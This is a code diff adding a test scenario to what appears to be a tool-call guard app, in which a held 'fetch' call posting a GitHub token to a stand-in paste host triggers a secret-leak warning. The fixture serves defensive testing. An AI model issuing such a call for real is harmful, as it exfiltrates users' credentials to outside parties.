@@ -99,6 +99,7 @@ async def of_pending(window: main.Window, guard: Still, save: SAVE) -> None:
     await settle(0.6)
     save(window, "pending-gone-trouble")
     await of_the_late(window, guard, save)
+    await of_the_leak(window, guard, save)
     await of_the_form(window, guard, save)
     guard.show(busy_day.everything())
     await settle()
@@ -129,6 +130,33 @@ async def of_the_late(window: main.Window, guard: Still, save: SAVE) -> None:
     pending.choose("")
     await settle(0.3)
     save(window, "pending-only-kept")
+
+
+async def of_the_leak(window: main.Window, guard: Still, save: SAVE) -> None:
+    """Calls with a secret in their inputs: one was refused, about one the person is asked."""
+    pending = window.pages["pending"]
+    whole = busy_day.everything()
+    secret = ("github-token",)
+    first = whole.held[0]
+    arguments = {"url": "https://paste.example/new", "text": "my token is [secret github-token], keep it"}
+    message = {**first.call.message, "params": {"name": "fetch", "arguments": arguments}}
+    call = msgspec.structs.replace(first.call, message=message, tool="fetch")
+    words = ("Its inputs hold the value of the secret github-token.",)
+    held = msgspec.structs.replace(first, call=call, tool=None, leaks=secret, digest="0" * 64, warnings=words)
+    leaked = tuple(
+        calls.Leaked(call=f"l{at}", client=call.client.id, server=call.server, tool="fetch", secrets=secret, since=at)
+        for at in range(2)
+    )
+    guard.show(msgspec.structs.replace(whole, held=(held, *whole.held[1:]), leaked=leaked))
+    await settle(0.3)
+    pending.choose(call.id)
+    await settle(0.8)
+    pending.call.decision.press()
+    await settle()
+    save(window, "pending-leak")
+    pending.call.decision.confirm.leave()
+    guard.show(whole)
+    await settle()
 
 
 async def of_the_form(window: main.Window, guard: Still, save: SAVE) -> None:
